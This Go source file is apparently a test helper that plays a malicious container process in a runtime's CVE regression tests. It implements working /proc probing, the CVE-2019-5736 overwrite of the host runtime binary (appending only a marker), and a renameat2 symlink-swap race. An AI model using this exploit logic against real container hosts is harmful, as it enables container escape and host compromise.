// The Go runtime (1.25+) keeps cgroup files open for container-aware
// GOMAXPROCS; the attacker does not want them among its fds.
//go:debug containermaxprocs=0
//go:debug updatemaxprocs=0

// Command attacker is the in-container half of integration/cve_test.go: the
// process a malicious image would run. It is built static (CGO_ENABLED=0) by
// the test and copied into a throwaway rootfs as /bin/attacker. It only
// ever attacks what the test points it at; every result is printed as one
// JSON object per line (to stdout, or appended to -out with an fsync so the
// test can follow it while the attacker still runs).
//
//	inspect PID
//	    probes the process PID as CVE-2016-9962 / CVE-2019-5736 attackers
//	    do: read /proc/PID/environ, open /proc/PID/exe (read and write),
//	    readlink and open /proc/PID/fd/N, /proc/PID/cwd and /proc/PID/root,
//	    PTRACE_ATTACH. One line per probe: {"probe":..., "result":"ok"|ERRNO}.
//	hunt -out FILE -for SECONDS [-write]
//	    polls /proc for new processes for SECONDS. For each one it records
//	    its cmdline, whether /proc/PID/exe can be opened and whether that is
//	    a binary from the container (/bin/*) or from outside (the runtime),
//	    and whether /proc/PID/environ and its fds can be read. With -write,
//	    every outside binary it could open is then opened for writing
//	    through the kept fd (retrying while ETXTBSY, i.e. while it still
//	    runs) and, if that works, appended to: CVE-2019-5736.
//	swap -for SECONDS DIR A B
//	    exchanges DIR/A and DIR/B with renameat2(RENAME_EXCHANGE) in a tight
//	    loop (a directory and a symlink: the symlink-exchange races of
//	    CVE-2021-30465 and CVE-2024-45310).
package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// Marker is what a successful CVE-2019-5736 write appends to the binary.
const Marker = "\n# overwritten from inside the container (CVE-2019-5736)\n"

type out struct {
	f *os.File
}

func (o *out) emit(v map[string]any) {
	b, _ := json.Marshal(v)
	b = append(b, '\n')
	o.f.Write(b)
	o.f.Sync()
}

func errName(err error) string {
	if err == nil {
		return "ok"
	}
	var errno syscall.Errno
	if errors.As(err, &errno) {
		if n := unix.ErrnoName(errno); n != "" {
			return n
		}
		return fmt.Sprintf("errno %d", int(errno))
	}
	return err.Error()
}

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attacker inspect|hunt|swap ...")
		os.Exit(2)
	}
	var err error
	switch os.Args[1] {
	case "inspect":
		err = inspect(os.Args[2:])
	case "hunt":
		err = hunt(os.Args[2:])
	case "swap":
		err = swap(os.Args[2:])
	default:
		err = fmt.Errorf("unknown command %q", os.Args[1])
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "attacker:", err)
		os.Exit(1)
	}
}

func inspect(args []string) error {
	if len(args) != 1 {
		return errors.New("usage: inspect PID")
	}
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	o := &out{f: os.Stdout}
	p := fmt.Sprintf("/proc/%d", pid)
	probe := func(name string, err error, extra ...any) {
		m := map[string]any{"probe": name, "result": errName(err)}
		if len(extra) == 1 {
			m["detail"] = extra[0]
		}
		o.emit(m)
	}
	env, err := os.ReadFile(p + "/environ")
	probe("environ", err, len(env))
	target, err := os.Readlink(p + "/exe")
	probe("exe-readlink", err, target)
	fd, err := unix.Open(p+"/exe", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	probe("exe-open-read", err)
	if err == nil {
		unix.Close(fd)
	}
	// O_WRONLY on a running binary is ETXTBSY at best; EACCES shows the
	// ptrace access check refused it first.
	fd, err = unix.Open(p+"/exe", unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0)
	probe("exe-open-write", err)
	if err == nil {
		unix.Close(fd)
	}
	for _, l := range []string{"cwd", "root"} {
		target, err := os.Readlink(p + "/" + l)
		probe(l+"-readlink", err, target)
	}
	ents, err := os.ReadDir(p + "/fd")
	probe("fd-list", err, len(ents))
	for _, e := range ents {
		n, _ := strconv.Atoi(e.Name())
		if n < 3 {
			continue
		}
		target, err := os.Readlink(p + "/fd/" + e.Name())
		probe("fd"+e.Name()+"-readlink", err, target)
		fd, err := unix.Open(p+"/fd/"+e.Name(), unix.O_RDONLY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
		if errors.Is(err, unix.ENXIO) || errors.Is(err, unix.EISDIR) {
			// a socket (ENXIO) still proved the link could be followed
			err = nil
		}
		probe("fd"+e.Name()+"-open", err)
		if fd >= 0 {
			unix.Close(fd)
		}
	}
	err = unix.PtraceAttach(pid)
	probe("ptrace-attach", err)
	if err == nil {
		var ws unix.WaitStatus
		unix.Wait4(pid, &ws, unix.WALL, nil)
		unix.PtraceDetach(pid)
	}
	return nil
}

// fileID identifies an inode.
type fileID struct{ dev, ino uint64 }

func statID(path string) (fileID, bool) {
	var st unix.Stat_t
	if err := unix.Stat(path, &st); err != nil {
		return fileID{}, false
	}
	return fileID{st.Dev, st.Ino}, true
}

// containerBinaries are the inodes of the executables of the container
// image; any other /proc/PID/exe came from outside it.
func containerBinaries() map[fileID]string {
	ids := map[fileID]string{}
	for _, dir := range []string{"/bin", "/sbin", "/usr/bin", "/usr/sbin"} {
		ents, _ := os.ReadDir(dir)
		for _, e := range ents {
			p := filepath.Join(dir, e.Name())
			if id, ok := statID(p); ok {
				ids[id] = p
			}
		}
	}
	return ids
}

func hunt(args []string) error {
	fs := flag.NewFlagSet("hunt", flag.ContinueOnError)
	outPath := fs.String("out", "", "append results to this file")
	secs := fs.Float64("for", 10, "seconds to hunt")
	write := fs.Bool("write", false, "try to overwrite outside binaries")
	if err := fs.Parse(args); err != nil {
		return err
	}
	o := &out{f: os.Stdout}
	if *outPath != "" {
		f, err := os.OpenFile(*outPath, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o644)
		if err != nil {
			return err
		}
		o.f = f
	}
	ours := containerBinaries()
	self := os.Getpid()
	end := time.Now().Add(time.Duration(*secs * float64(time.Second)))
	// A pid is looked at again when its command line changed: execve
	// keeps the pid (the runtime's helper becomes the container program).
	seen := map[int]string{}
	type kept struct {
		pid int
		fd  int
	}
	var keep []kept
	procDir, err := os.Open("/proc")
	if err != nil {
		return err
	}
	o.emit(map[string]any{"event": "hunting", "pid": self})
	for time.Now().Before(end) {
		procDir.Seek(0, 0)
		names, _ := procDir.Readdirnames(-1)
		for _, n := range names {
			pid, err := strconv.Atoi(n)
			if err != nil || pid == self {
				continue
			}
			p := "/proc/" + n
			cmdline, _ := os.ReadFile(p + "/cmdline")
			if len(cmdline) == 0 {
				continue // mid-execve (or a zombie): look again next round
			}
			if last, ok := seen[pid]; ok && last == string(cmdline) {
				continue
			}
			seen[pid] = string(cmdline)
			// Open the exe first: it is the race the CVE-2019-5736
			// exploit wins, before the binary exits.
			exeFd, exeErr := unix.Open(p+"/exe", unix.O_RDONLY|unix.O_CLOEXEC, 0)
			rec := map[string]any{"event": "proc", "pid": pid, "exe-open": errName(exeErr)}
			_, envErr := os.ReadFile(p + "/environ")
			rec["environ"] = errName(envErr)
			rec["cmdline"] = strings.TrimSpace(string(bytes.ReplaceAll(cmdline, []byte{0}, []byte{' '})))
			var fdRes []string
			ents, _ := os.ReadDir(p + "/fd")
			for _, e := range ents {
				if k, _ := strconv.Atoi(e.Name()); k < 3 {
					continue
				}
				target, err := os.Readlink(p + "/fd/" + e.Name())
				if err != nil {
					fdRes = append(fdRes, e.Name()+":"+errName(err))
				} else {
					fdRes = append(fdRes, e.Name()+"="+target)
				}
			}
			sort.Strings(fdRes)
			rec["fds"] = fdRes
			if exeErr == nil {
				var st unix.Stat_t
				unix.Fstat(exeFd, &st)
				id := fileID{st.Dev, st.Ino}
				target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", exeFd))
				rec["exe"] = target
				if name, ok := ours[id]; ok {
					rec["exe-kind"] = "container:" + name
					unix.Close(exeFd)
				} else {
					rec["exe-kind"] = "outside"
					if *write {
						keep = append(keep, kept{pid, exeFd})
					} else {
						unix.Close(exeFd)
					}
				}
			}
			o.emit(rec)
		}
		// Try the kept binaries: ETXTBSY while they run; once they
		// exited, a writable inode is ours.
		var still []kept
		for _, k := range keep {
			wfd, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", k.fd), unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0)
			if errors.Is(err, unix.ETXTBSY) && time.Now().Before(end) {
				still = append(still, k)
				continue
			}
			res := map[string]any{"event": "write", "pid": k.pid, "open": errName(err)}
			if err == nil {
				_, werr := unix.Write(wfd, []byte(Marker))
				res["write"] = errName(werr)
				unix.Close(wfd)
			}
			unix.Close(k.fd)
			o.emit(res)
		}
		keep = still
		time.Sleep(50 * time.Microsecond)
	}
	o.emit(map[string]any{"event": "done"})
	return nil
}

func swap(args []string) error {
	fs := flag.NewFlagSet("swap", flag.ContinueOnError)
	secs := fs.Float64("for", 10, "seconds to swap")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if fs.NArg() != 3 {
		return errors.New("usage: swap -for SECONDS DIR A B")
	}
	dir, a, b := fs.Arg(0), fs.Arg(1), fs.Arg(2)
	dfd, err := unix.Open(dir, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	fmt.Println("swapping")
	end := time.Now().Add(time.Duration(*secs * float64(time.Second)))
	n := 0
	for time.Now().Before(end) {
		for i := 0; i < 1000; i++ {
			if err := unix.Renameat2(dfd, a, dfd, b, unix.RENAME_EXCHANGE); err != nil {
				return fmt.Errorf("renameat2: %w", err)
			}
			n++
		}
	}
	// leave the directory in place, not the symlink
	var st unix.Stat_t
	if err := unix.Fstatat(dfd, a, &st, unix.AT_SYMLINK_NOFOLLOW); err == nil && st.Mode&unix.S_IFMT == unix.S_IFLNK {
		unix.Renameat2(dfd, a, dfd, b, unix.RENAME_EXCHANGE)
	}
	fmt.Println("swapped", n)
	return nil
}
